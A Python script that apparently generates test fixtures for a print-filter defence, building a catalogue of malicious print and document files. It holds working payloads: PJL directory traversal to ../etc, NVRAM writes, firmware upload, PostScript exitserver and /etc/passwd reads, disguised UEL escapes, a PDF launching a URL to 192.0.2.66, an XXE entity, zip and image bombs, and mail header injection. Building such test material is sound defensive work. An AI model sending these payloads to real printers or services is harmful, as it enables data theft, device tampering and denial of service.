"""Makes the files of the attack catalogue: `python -m tests.attacks.make`.

Every file holds words that are its own, so that they can be looked for in what a printer gets.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

FOLDER = Path(__file__).parent / "files"
UEL = b"\x1b%-12345X"
PAGE = (
    b"%!PS-Adobe-3.0\n%%Title: a page of the attack catalogue\n%%Pages: 1\n%%EndComments\n"
    b"/Helvetica findfont 12 scalefont setfont 72 72 moveto (page) show showpage\n"
)
PCL_PAGE = b"\x1bE\x1b&l0Opage\x0c\x1bE"
XL_HEAD = b") HP-PCL XL;2;0;Comment attack\n"


def around(*lines: bytes, page: bytes = PAGE, language: bytes = b"POSTSCRIPT") -> bytes:
    """A document behind PJL lines."""
    said = b"".join(b"@PJL " + line + b"\r\n" for line in lines)
    return UEL + b"@PJL\r\n" + said + b"@PJL ENTER LANGUAGE=" + language + b"\r\n" + page + UEL


def program(body: bytes) -> bytes:
    """A PostScript program that also shows a page."""
    return b"%!PS-Adobe-3.0\n" + body + b"\n" + PAGE.partition(b"\n")[2]


def pjl() -> dict[str, bytes]:
    return {
        "pjl-fsdirlist.prn": around(b'FSDIRLIST NAME="0:\\..\\..\\etc" ENTRY=1 COUNT=65535'),
        "pjl-fsquery.prn": around(b'FSQUERY NAME="0:/attack-query"'),
        "pjl-fsupload.prn": around(b'FSUPLOAD NAME="0:/../etc/attack-passwd" OFFSET=0 SIZE=4096'),
        "pjl-fsdownload.prn": UEL
        + b'@PJL FSDOWNLOAD FORMAT:BINARY SIZE=26 NAME="0:/attack.cfg"\r\nATTACK-CONTENT-OF-THE-FILE'
        + around(),
        "pjl-fsappend.prn": UEL + b'@PJL FSAPPEND SIZE=14 NAME="0:/a"\r\nATTACK-APPENDS' + around(),
        "pjl-fsdelete.prn": around(b'FSDELETE NAME="0:/attack-delete"'),
        "pjl-fsmkdir.prn": around(b'FSMKDIR NAME="0:/attack-mkdir"'),
        "pjl-fsinit.prn": around(b'FSINIT VOLUME="0:"'),
        "pjl-nvram.prn": around(b"SUPERUSER PASSWORD=0", b"WNVRAM ADDRESS=1 DATA=66", b"RNVRAM ADDRESS=1"),
        "pjl-clearnvram.prn": around(b"CLEARNVRAM", b"NVRAMINIT"),
        "pjl-nvram-wear.prn": around(*(b"DEFAULT COPIES=%d" % number for number in range(1, 200))),
        "pjl-default.prn": around(b"DEFAULT PAPER=ATTACK", b"DEFAULT LPARM : PCL PITCH=1.00"),
        "pjl-password.prn": around(b"DEFAULT PASSWORD=31337", b"DEFAULT CPLOCK=ON", b"DEFAULT DISKLOCK=ON"),
        "pjl-job-password.prn": around(b"JOB PASSWORD=31337", b"EOJ"),
        "pjl-initialize.prn": around(b"INITIALIZE", b"RESET"),
        "pjl-execute.prn": around(b"EXECUTE SHUTDOWN", b"EXECUTE SELFTEST"),
        "pjl-servicemode.prn": around(b"SET SERVICEMODE=HPBOISEID", b"SET SERVICEMODE=EXIT"),
        "pjl-dmcmd.prn": around(b'DMCMD ASCIIHEX="040006020501010301040106"', b'DMINFO ASCIIHEX="000006030302"'),
        "pjl-messages.prn": around(b'OPMSG DISPLAY="ATTACK"', b'RDYMSG DISPLAY="ATTACK"', b'STMSG DISPLAY="ATTACK"'),
        "pjl-jobmedia.prn": around(b"SET JOBMEDIA=OFF", b"SET MANUALFEED=ON"),
        "pjl-hold.prn": around(b"SET HOLD=ON", b"SET RETAIN=ON", b'SET HOLDKEY="31337"', b"SET PAGECOUNT=31337"),
        "pjl-upgrade.prn": UEL + b"@PJL UPGRADE SIZE=15\r\nATTACK-FIRMWARE" + around(),
        "pjl-disclosure.prn": around(
            b"INFO CONFIG", b"INFO FILESYS", b"DINQUIRE PASSWORD", b"INQUIRE PAPER", b"ECHO x"
        ),
        "pjl-copies.prn": around(b"SET COPIES=32000", b"SET QTY=32000"),
        "pjl-long-name.prn": around(b'JOB NAME="attack' + b"A" * 5000 + b'" DISPLAY="ATTACK"'),
        "pjl-over-long.prn": around(b'RDYMSG DISPLAY="ATTACK' + b"A" * 3000 + b'"'),
    }


def hidden() -> dict[str, bytes]:
    evil = b'@PJL FSDELETE NAME="0:/attack-hidden"\r\n@PJL RDYMSG DISPLAY="ATTACK"\r\n'
    raster = b"\x1bE\x1b*t300R\x1b*r1A\x1b*b%dW" % len(UEL + evil) + UEL + evil + b"\x1b*rB\x1bE"
    return {
        "hidden-behind-postscript.ps": PAGE + UEL + evil + UEL,
        "hidden-behind-pdf.pdf": pdf() + UEL + evil + UEL,
        "hidden-in-pcl-raster.pcl": raster,
        "hidden-in-transparent-data.pcl": b"\x1bE\x1b&p%dX" % len(UEL + evil) + UEL + evil + b"\x1bE",
        "hidden-in-pclxl-data.prn": around(
            page=XL_HEAD
            + b"\xd1\x58\x02\x58\x02\xf8\x89\xc0\x00\xf8\x86\x41\xfa"
            + struct.pack("<I", 200)
            + UEL
            + evil,
            language=b"PCLXL",
        ),
        "hidden-by-case.prn": UEL
        + b'@pjl fsdelete name="0:/attack-case"\n@Pjl RdyMsg Display="attack"\n@pJL eNTER lANGUAGE = pcl\n'
        + PCL_PAGE,
        "hidden-without-uel.prn": b"\0\x04\r\n " + evil + b"@PJL ENTER LANGUAGE=PCL\n" + PCL_PAGE,
        "hidden-after-enter.prn": around(b"ENTER LANGUAGE=PCL") + evil + UEL + evil,
        "hidden-behind-blanks.prn": UEL + b"\r\n\0\0\t" + evil + b"\n\n" + around(),
        "hidden-in-string.prn": UEL + b'@PJL COMMENT "' + UEL + evil + b'"\r\n' + around(),
        "hidden-by-combination.pcl": b"\x1bE\x1b%0a-12345X" + evil + PCL_PAGE,
        "hidden-by-dropping.pcl": b"\x1bE\x1b*b6W\x1b%-123\x1bz45X" + evil + PCL_PAGE,
        "hidden-split.pcl": b"\x1bE\x1b*b5W\x1b%-12345X" + evil + PCL_PAGE,
        "hidden-second-language.prn": around(page=PCL_PAGE, language=b"PCL")
        + UEL
        + b"@PJL ENTER LANGUAGE=POSTSCRIPT\r\n"
        + program(b"serverdict begin 0 exitserver (attack-second) pop"),
        "hidden-lower-case-uel.ps": PAGE + b"\x1b%-12345x" + evil,
        "hidden-uel-with-nul.ps": PAGE + b"\x1b%\0-123 45\0X" + evil,
        "hidden-uel-with-noughts.pdf": pdf() + b"\x1b%-0012345.0X" + evil,
        "hidden-uel-in-glyph.pcl": b"\x1bE\x1b(s%dW" % (11 + len(evil)) + b"\x1b%-12345.0X" + evil + b"\x1bE",
        "hidden-half-a-uel.ps": PAGE + UEL[:6],
        "hidden-behind-form-feed.prn": around(page=PCL_PAGE, language=b"PCL") + b"\x0c\x0b\x0c" + evil,
        "hidden-behind-return.prn": UEL + b"@PJL COMMENT a\r" + evil.replace(b"\r\n", b"\r") + b"\n" + around(),
        "hidden-behind-comment.prn": UEL + b'@PJL ENTER LANGUAGE=PCL ; "\r\n' + evil + around(),
        "ps-picture.ps": program(
            b"<</CompressPages false/EncodeGrayImages false/AutoFilterGrayImages false>>setdistillerparams\n"
            b"72 72 translate 300 300 scale %d 60 8[%d 0 0 -60 0 60]{<%b>}image"
            % (len(UEL + evil), len(UEL + evil), (UEL + evil).hex().encode())
        ),
        "hidden-text-behind-pdf.pdf": pdf() + UEL + b"attack-hidden\r\n" + evil,
        "hidden-postscript-in-pcl.prn": around(page=program(b"(attack-guess) print"), language=b"PCL"),
    }


def postscript() -> dict[str, bytes]:
    return {
        "ps-startjob.ps": program(b"true 0 startjob {/attackjob true def} if"),
        "ps-exitserver.ps": program(b"serverdict begin 0 exitserver /attackserver true def"),
        "ps-read-file.ps": program(b"(/etc/passwd)(r) file 200 string readline pop print (attack-read) print"),
        "ps-write-file.ps": program(b"(attack-write)(w) file dup (x) writestring closefile"),
        "ps-delete-file.ps": program(b"(attack-delete) deletefile (a)(b) renamefile"),
        "ps-list-files.ps": program(b"(*){= flush} 200 string filenameforall (attack-list) print"),
        "ps-setsystemparams.ps": program(
            b"<< /Password (0) /SystemParamsPassword (attack-pw) /StartJobPassword (attack-pw) /FactoryDefaults true"
            b" /WaitTimeout 1 >> setsystemparams"
        ),
        "ps-showpage.ps": program(
            b"/showpage {72 700 moveto (attack-overlay) show systemdict /showpage get exec} bind def"
        ),
        "ps-beginpage.ps": program(b"<< /BeginPage {pop (attack-begin) print} >> setpagedevice"),
        "ps-capture.ps": program(b"/attackcapture 65535 string def currentfile attackcapture readstring pop pop"),
        "ps-endless.ps": program(b"(attack-endless) pop {} loop"),
        "ps-quit.ps": program(b"(attack-quit) pop systemdict /quit get exec"),
    }


def pcl() -> dict[str, bytes]:
    glyph = b"\x1b*c7D\x1b)s26W" + bytes(26)
    return {
        "pcl-permanent-macro.pcl": b"\x1bE\x1b&f31y0Xattack-macro\x1b&f1X\x1b&f31y10X\x1b&f4X" + PCL_PAGE,
        "pcl-permanent-font.pcl": b"\x1bE" + glyph + b"\x1b*c5F" + PCL_PAGE,
        "pcl-permanent-pattern.pcl": b"\x1bE\x1b*c3G\x1b*c12W\0\0\0\0\0\x08\0\x08AAAA\x1b*c5Q" + PCL_PAGE,
        "pcl-delete-all.pcl": b"\x1bE\x1b&f6X\x1b*c0F\x1b*c0Q" + PCL_PAGE,
        "pcl-open-macro.pcl": b"\x1bE\x1b&f7y0Xpage",
        "pcl-open-plotter.pcl": b"\x1bEpage\x1b%-1BIN;LBattack\x1bz\x1b%-1a0A\x1bz",
        "pcl-self-test.pcl": b"\x1bE\x1bz" + PCL_PAGE,
        "pcl-appletalk.pcl": b"\x1bE\x1b&b16WOBJECT attack at*" + PCL_PAGE,
        "pcl-status.pcl": b"\x1bE\x1b*s4T\x1b*s0U\x1b*s1I\x1b*s1M\x1b*s-31337X" + PCL_PAGE,
        "pcl-display-functions.pcl": b"\x1bE\x1bY\x1b*b20W\x1bZ\x1b&f31y10X\x1bzattack\x1bE" + PCL_PAGE,
        "pcl-two-octet-text.pcl": b"\x1bE\x1b&t31P\x81\x1b*b20W\x1b&f31y10X\x1bzattack-ab" + PCL_PAGE,
        "pcl-associate-macro.pcl": b"\x1bE\x1b&n14W\x05attack-on-disk"[:-1] + b"\x1bE" + PCL_PAGE,
        "pcl-copies.pcl": b"\x1bE\x1b&l0o32767X" + PCL_PAGE,
        "pcl-cut-off.pcl": b"\x1bE\x1b*b32767Wattack-swallows-the-next-job",
        "pclxl-passthrough.prn": around(page=XL_HEAD + b"\xc8\xc1\x02\0\x1bz\xf8\x91\xbf", language=b"PCLXL"),
        "pclxl-stream.prn": around(page=XL_HEAD + b"\xc8\xc1\x06\0attack\xf8\x8c\x5b", language=b"PCLXL"),
        "pclxl-copies.prn": around(page=XL_HEAD + b"\xc1\xff\x7f\xf8\x31\x44", language=b"PCLXL"),
        "hpgl-escapes.pcl": b"\x1bE\x1b&l0O\x1b%0BIN;SP1;PA0,0;LBlabel\x03\x1b.R\x1bz\x1b&f31y10X\x1b%0A" + PCL_PAGE,
    }


def pdf(extra: bytes = b"", *objects: bytes) -> bytes:
    """One page; `extra` goes into its resources, `objects` from number 5 on."""
    content = b"BT /F 12 Tf 72 72 Td (page) Tj ET" + (b" /Ps Do" if extra else b"")
    parts = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://192.0.2.66/'\\))>>>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
        b"/Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>%b>>>>" % extra,
        b"<</Length %d>>stream\n%b\nendstream" % (len(content), content),
        *objects,
    ]
    made, places = bytearray(b"%PDF-1.4\n"), []
    for number, part in enumerate(parts, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%b\nendobj\n" % (number, part)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    made += b"xref\n0 %d\n0000000000 65535 f \n%btrailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (
        *(len(parts) + 1, table, len(parts) + 1),
        made.rindex(b"endobj\n") + 7,
    )
    return bytes(made)


def raster() -> dict[str, bytes]:
    page = bytearray(1796)
    page[:10] = b"PwgRaster\0"
    struct.pack_into(">2I", page, 276, 72, 72)
    struct.pack_into(">2I", page, 352, 8, 1)
    struct.pack_into(">9I", page, 372, 8, 1, 0, 8, 8, 8, 0, 18, 0)
    struct.pack_into(">I", page, 420, 1)
    more = page[:340] + struct.pack(">I", 999) + page[344:]
    return {"pwg-later-copies.pwg": b"RaS2" + page + b"\0\x07\xff" + more + b"\0\x07\xff"}


def text() -> dict[str, bytes]:
    return {"text-utf-7.txt": b"page\n+ABs-%-12345X+AEA-PJL RDYMSG DISPLAY +AD0- +ACI-ATTACK+ACI-\n+ABs-z\n"}


def documents() -> dict[str, bytes]:
    words = b"(attack-xobject) print serverdict begin 0 exitserver"
    xobject = b"<</Type/XObject/Subtype/PS/Length %d>>stream\n%b\nendstream" % (len(words), words)
    tnef = struct.pack("<IHBIIH", 0x223E9F78, 1, 1, 0x00089006, 0xFFFFFFF0, 0) + b"attack-tnef"
    return {
        "pdf-postscript-xobject.pdf": pdf(b"/XObject<</Ps 5 0 R>>", xobject),
        "html-fetches.html": b"<html><body><p>page</p><img src='file:///etc/passwd'><img src='http://192.0.2.66/attack'>"
        b"<link rel=stylesheet href='file:///etc/hostname'><iframe src='file:///etc/passwd'></iframe>"
        b"<object data='http://192.0.2.66/attack'></object></body></html>\n",
        "svg-entity.svg": b"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY attack SYSTEM 'file:///etc/passwd'>]>"
        b"<svg xmlns='http://www.w3.org/2000/svg'><text y='20'>&attack;</text></svg>\n",
        "tnef-lies.dat": tnef,
    }


def archives() -> dict[str, bytes]:
    bomb = _zip({"zeros.txt": bytes(12 << 20)})
    nested = bomb
    for level in range(12):
        nested = _zip({f"level-{level}.zip": nested, "..\\..\\attack.txt": b"attack-path"})
    document = {
        "[Content_Types].xml": b"<?xml version='1.0'?><Types xmlns='http://schemas.openxmlformats.org/package/2006/"
        b"content-types'><Default Extension='xml' ContentType='application/vnd.openxmlformats-officedocument."
        b"wordprocessingml.document.main+xml'/><Default Extension='rels' ContentType="
        b"'application/vnd.openxmlformats-package.relationships+xml'/></Types>",
        "_rels/.rels": b"<?xml version='1.0'?><Relationships xmlns='http://schemas.openxmlformats.org/package/2006/"
        b"relationships'><Relationship Id='r1' Type='http://schemas.openxmlformats.org/officeDocument/2006/"
        b"relationships/officeDocument' Target='word/document.xml'/></Relationships>",
        "word/document.xml": b"<?xml version='1.0'?><w:document xmlns:w='http://schemas.openxmlformats.org/"
        b"wordprocessingml/2006/main'><w:body><w:p><w:r><w:t>page</w:t></w:r></w:p></w:body></w:document>",
        "word/_rels/document.xml.rels": b"<?xml version='1.0'?><Relationships xmlns='http://schemas.openxmlformats.org/"
        b"package/2006/relationships'><Relationship Id='r9' TargetMode='External' Target='http://192.0.2.66/attack'"
        b" Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'/></Relationships>",
        "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1attack-macro",
    }
    return {"zip-bomb.zip": bomb, "zip-nested.zip": nested, "office-macro.docx": _zip(document)}


def _zip(members: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, octets in members.items():
            archive.writestr(zipfile.ZipInfo(name), octets, zipfile.ZIP_DEFLATED, 9)
    return made.getvalue()


def pictures() -> dict[str, bytes]:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 50_000, 50_000, 1, 0, 0, 0, 0))
    png += chunk(b"IDAT", zlib.compress(bytes(1 << 20), 9)) + chunk(b"IEND", b"")
    white = b"\xff" * (50_000 // 8)  # CCITT Group 4: a line like the one before it is one bit
    return {
        "image-bomb.png": png,
        "image-bomb.tiff": _tiff(white, 50_000),
        "tiff-loop.tiff": _tiff(b"\xff\xff", 8, loop=True),
    }


def _tiff(data: bytes, side: int, *, loop: bool = False) -> bytes:
    tags = [(256, side), (257, side), (258, 1), (259, 4), (262, 0), (273, 8 + 2 + 9 * 12 + 4), (277, 1), (278, side)]
    tags.append((279, len(data)))
    entries = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags)
    return b"II*\0" + struct.pack("<IH", 8, 9) + entries + struct.pack("<I", 8 if loop else 0) + data


def mails() -> dict[str, bytes]:
    subject = b"Subject: =?utf-8?q?page=1B%-12345X=0D=0A@PJL_RDYMSG_DISPLAY=3D=22ATTACK=22=0D=0A)_quit_%%?=\r\n"
    name = b'filename="a\\"\x1b%-12345X@PJL FSDELETE NAME=attack.ps"'
    head = b"From: Ada <ada@example.com>\r\nTo: phaser@example.com\r\nMIME-Version: 1.0\r\n"
    text = b"Content-Type: text/plain\r\n\r\na page\r\n"
    attached = b"Content-Type: application/postscript\r\nContent-Disposition: attachment; " + name + b"\r\n\r\n"
    return {
        "mail-subject.eml": head + subject + text,
        "mail-subject-postscript.eml": head + subject + attached + PAGE.replace(b"\n", b"\r\n"),
        "mail-file-name.eml": head + b"Subject: page\r\n" + attached + PAGE.replace(b"\n", b"\r\n"),
    }


def all_files() -> dict[str, bytes]:
    """The octets of every file by its name."""
    made: dict[str, bytes] = {}
    for part in (pjl, hidden, postscript, pcl, raster, text, documents, archives, pictures, mails):
        made |= part()
    return made


if __name__ == "__main__":
    FOLDER.mkdir(exist_ok=True)
    for name, octets in all_files().items():
        (FOLDER / name).write_bytes(octets)
